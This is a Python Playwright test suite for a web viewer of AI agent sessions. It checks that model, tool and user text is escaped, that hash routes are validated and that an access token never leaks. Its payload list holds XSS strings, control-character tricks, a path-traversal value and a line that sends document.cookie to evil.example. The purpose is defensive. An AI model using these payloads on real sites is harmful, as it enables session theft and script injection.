"""The page shows what models, tools and users wrote, and obeys none of it; a token is in no address and no store."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from endstop.providers import call, say

from .shown import Gate, Site, go_home, until
from .test_page_replay import events_of

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "\"'><svg/onload=window.hit=1>",
    "</pre></div><iframe src=http://evil.example/></iframe>",
    "<a href=javascript:window.hit=1>press</a>",
    "<style>body{display:none}</style><meta http-equiv=refresh content=0;url=http://evil.example>",
    "${window.hit=1}{{constructor.constructor('window.hit=1')()}}",
    "\u202egnihtemos\u202c \u2066x\u2069 \u200f\ufeff",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x00\x07\x08\x7f\x9b31m",
    "]]>--></title></textarea></style></script><script>fetch('http://evil.example/'+document.cookie)</script>",
]
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")


def poisoned(bad: str, number: int) -> list[dict[str, Any]]:
    """A run in which whatever others may write is this text."""
    start, *_, end = events_of("hello")
    call_id = f"c{number}"
    outcome = {**end["outcome"], "run_id": f"run_bad{number}", "answer": bad, "detail": bad, "pending_issues": [bad]}
    outcome["phases"] = [{"completion_percentage": 50, "summary": bad, "next_phase": bad}]
    outcome["evaluation"] = {"name": bad, "details": bad}
    attempt = {"attempt": "1.1"}
    at_tool = {"call_id": call_id, "name": bad}
    arguments = '{"path": ' + json.dumps(bad) + "}"
    events = [
        {**start, "run_id": f"run_bad{number}", "prompt": bad, "model": bad},
        {"type": "ROUND_STARTED", "round": 1},
        {"type": "STEP_STARTED", "step": 1, "round": 1},
        {"type": "ATTEMPT_STARTED", **attempt, "model": bad},
        {"type": "REASONING_MESSAGE_CONTENT", **attempt, "delta": bad},
        {"type": "TEXT_MESSAGE_CONTENT", **attempt, "delta": bad},
        {"type": "TOOL_CALL_START", **attempt, **at_tool},
        {"type": "TOOL_CALL_ARGS", **attempt, "call_id": call_id, "delta": arguments},
        {"type": "TOOL_CALL_END", **attempt, "call_id": call_id},
        {"type": "PROVIDER_TOOL_REPORTED", **attempt, "id": "p", "name": bad, "arguments": bad, "result": bad},
        {"type": "TOOL_EXECUTION_STARTED", **at_tool},
        {
            "type": "TOOL_CALL_RESULT",
            **at_tool,
            "content": f"{bad}\n" * 40,
            "images": [
                {"data": "iVBORw0KGgo=", "media_type": 'image/png" onload="window.hit=1'},
                {"data": "PHN2Zz4=", "media_type": "image/svg+xml"},
                {"data": "", "url": "http://evil.example/x.png"},
                {"data": "", "url": "javascript:window.hit=1"},
            ],
        },
        {"type": "TOOL_CALL_RESULT", "call_id": "x", "name": bad, "content": bad, "status": "error"},
        {"type": "THOUGHT_RECORDED", "call_id": "t", "text": bad},
        {"type": "PHASE_REPORTED", "call_id": "t", "percentage": 50, "summary": bad, "next_phase": bad},
        {"type": "COMPLETION_REJECTED", "call_id": "t", "name": bad, "reason": bad, "by": f"x:{bad}"},
        {"type": "QUESTION_ASKED", "call_id": "q", "text": bad, "pending_issues": [bad]},
        {"type": "QUESTION_ANSWERED", "call_id": "q", "text": bad},
        {"type": "VERDICT_GIVEN", "role": "judge", "name": bad, "said": "failed", "detail": bad},
        {
            "type": "CONTEXT_COMPACTED",
            "strategy": "summarise",
            "before_tokens": 9,
            "after_tokens": 1,
            "put_first": [{"role": "user", "text": bad}],
        },
        {"type": "MESSAGE_ADDED", "text": bad, "origin": "nudge"},
        {"type": "MESSAGE_ADDED", "text": bad, "origin": "user"},
        {"type": "ATTEMPT_FAILED", "attempt": "1.2", "kind": "server", "message": bad, "model": bad},
        {"type": "ATTEMPT_RETRACTED", "attempt": bad},
        {"type": "CANCEL_REQUESTED", "cause": bad},
        {"type": "STEP_FINISHED", "step": 1},
        {
            "type": "DECISION_MADE",
            "round": 1,
            "decision": {
                "do": "go_on",
                "rule": bad,
                "why": bad,
                "trace": [{"rule": bad, "saw": {bad: bad, "list": [bad]}, "said": bad}],
            },
        },
        {"type": "EVALUATION_FINISHED", "verdict": "failed", "name": bad, "details": {bad: bad}},
        {**end, "outcome": outcome},
    ]
    return [{**event, "seq": seq, "t": seq} for seq, event in enumerate(events, 1)]


def only_from_here(page: Any, site: Site) -> None:
    home = urlsplit(site.url).netloc
    assert {urlsplit(url).netloc for url in page.asked if not url.startswith(("data:", "blob:"))} == {home}


def test_nothing_that_others_wrote_becomes_markup_or_is_obeyed(page: Any, shown: Site) -> None:
    for number, bad in enumerate(PAYLOADS):
        shown.keep([poisoned(bad, number)], bad, f"session_bad{number}")
        page.goto(f"{shown.url}#s/session_bad{number}")
        page.wait_for_selector(".end")
        nothing_happened(page, bad, f"#sessions tr:has(a[href$=session_bad{number}]) >> text=completed")
        go_home(page, shown)
    only_from_here(page, shown)


def nothing_happened(page: Any, bad: str, listed: str) -> None:
    """The session with this text is shown, moved and unfolded, and the text is nowhere more than text."""
    page.keyboard.press("t")
    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    page.click("#replay")
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("End")
    page.wait_for_selector(listed)
    assert page.evaluate("window.hit") is None, bad
    parts = "#timeline :is(a:not(.markdown a[target=_blank]), form, meta, link), #sessions tr > :not(td)"
    foreign = (
        f"[...document.querySelectorAll('iframe, svg, object, embed, body style, body script, {parts}, #session img')]"
    )
    foreign += ".map((element) => element.outerHTML)"
    assert page.evaluate(foreign) == [], bad
    names = "[...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())"
    assert page.evaluate(f"{names}.filter((name) => name.startsWith('on') || name === 'srcdoc')") == []
    ours = ".fill, .mark, #verdict [style], #sessions, #sessions > tr"
    assert page.evaluate(f"document.querySelectorAll('[style]:not({ours})').length") == 0
    text = page.evaluate("document.body.textContent + document.title")
    assert BAD.findall(text) == []
    if not BAD.search(bad):
        assert page.evaluate("document.querySelector('.text').textContent") == bad
        assert bad in page.text_content(".end")


def test_a_hash_that_is_no_session_does_nothing_but_say_so(page: Any, shown: Site) -> None:
    page.refused = ("404",)
    for wrong in ("<img src=x onerror=window.hit=1>", "../../../agents", "%E0%A4%A", "a/b?c=d#e"):
        page.goto(f"{shown.url}#s/{wrong if wrong.startswith('%') else quote(wrong, safe='')}")
        page.wait_for_selector("#trouble:not(:empty)")
    assert page.evaluate("window.hit") is None
    only_from_here(page, shown)


def test_pictures_of_tools_are_shown_as_data_only(page: Any, shown: Site) -> None:
    start, *_, end = events_of("hello")
    dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
    events = [
        {**start, "run_id": "run_dot"},
        {"type": "STEP_STARTED", "step": 1, "round": 1},
        {"type": "TOOL_CALL_START", "attempt": "1.1", "call_id": "a", "name": "draw"},
        {"type": "TOOL_CALL_RESULT", "call_id": "a", "name": "draw", "content": "", "images": [{"data": dot}]},
        {**end, "outcome": {**end["outcome"], "run_id": "run_dot"}},
    ]
    shown.keep([[{**event, "seq": seq} for seq, event in enumerate(events, 1)]], "dot", "session_dot")
    page.goto(f"{shown.url}#s/session_dot")
    image = page.wait_for_selector(".result img")
    until(page, "document.querySelector('.result img').naturalWidth === 1")
    assert image.get_attribute("src") == f"data:image/png;base64,{dot}"
    assert "draw" in image.get_attribute("alt")


# ---- the token

TOKEN = "a-token-of-32-characters-or-more!"


@pytest.fixture
def guarded() -> Iterator[Site]:
    with Site().running(token=TOKEN) as site:
        yield site


def test_where_a_token_is_asked_for_it_is_given_once_and_goes_nowhere_else(
    open_page: Callable[..., Any], guarded: Site
) -> None:
    page = open_page()
    page.refused = ("401",)
    page.goto(guarded.url)
    page.wait_for_selector("#asking[open]")
    page.fill("#token", "wrong")
    page.keyboard.press("Enter")
    page.wait_for_selector("text=does not know this token")
    page.fill("#token", TOKEN)
    page.keyboard.press("Enter")
    page.wait_for_selector("#agents >> text=scripted-1")
    gate = Gate()
    guarded.scripts["hi"] = [[say("Hel"), gate, say("lo")]]
    page.fill("#prompt", "hi")
    page.click("#start button")
    gate.reached()
    page.wait_for_selector("text=Hel")
    page.reload()
    page.wait_for_selector("text=Hel")
    assert page.is_hidden("#asking")
    gate.open()
    page.wait_for_selector(".end")
    assert [url for url in [*page.asked, page.url] if TOKEN in url] == []
    assert page.evaluate("JSON.stringify(localStorage) + document.cookie") == "{}"
    assert page.evaluate("document.documentElement.outerHTML").count(TOKEN) == 0
    other = open_page()
    other.refused = ("401",)
    other.goto(page.url)
    other.wait_for_selector("#asking[open]")


def test_a_session_that_is_somebody_elses_is_not_there(open_page: Callable[..., Any], guarded: Site) -> None:
    guarded.keep([events_of("hello")], "not mine", "session_foreign", owner="you")
    page = open_page()
    page.refused = ("401", "404")
    page.goto(f"{guarded.url}#s/session_foreign")
    page.wait_for_selector("#asking[open]")
    page.fill("#token", TOKEN)
    page.keyboard.press("Enter")
    page.wait_for_selector("#trouble:not(:empty)")
    assert "not mine" not in page.content()


def test_an_error_of_the_server_is_shown_in_its_own_words(page: Any, shown: Site) -> None:
    page.refused = ("409",)
    gate = Gate()
    shown.scripts["late"] = [[gate, call("task_done", summary="done")]]
    page.fill("#prompt", "late")
    page.click("#start button")
    gate.reached()
    page.wait_for_selector("#composer textarea")
    page.route(
        "**/messages", lambda route: route.fulfill(status=409, body='{"code":"not_running","detail":"It is over."}')
    )
    page.fill("#composer textarea", "too late")
    page.click("#composer button")
    page.wait_for_selector("#composer .error >> text=It is over.")
    assert page.input_value("#composer textarea") == "too late"
    gate.open()
    page.wait_for_selector(".end")
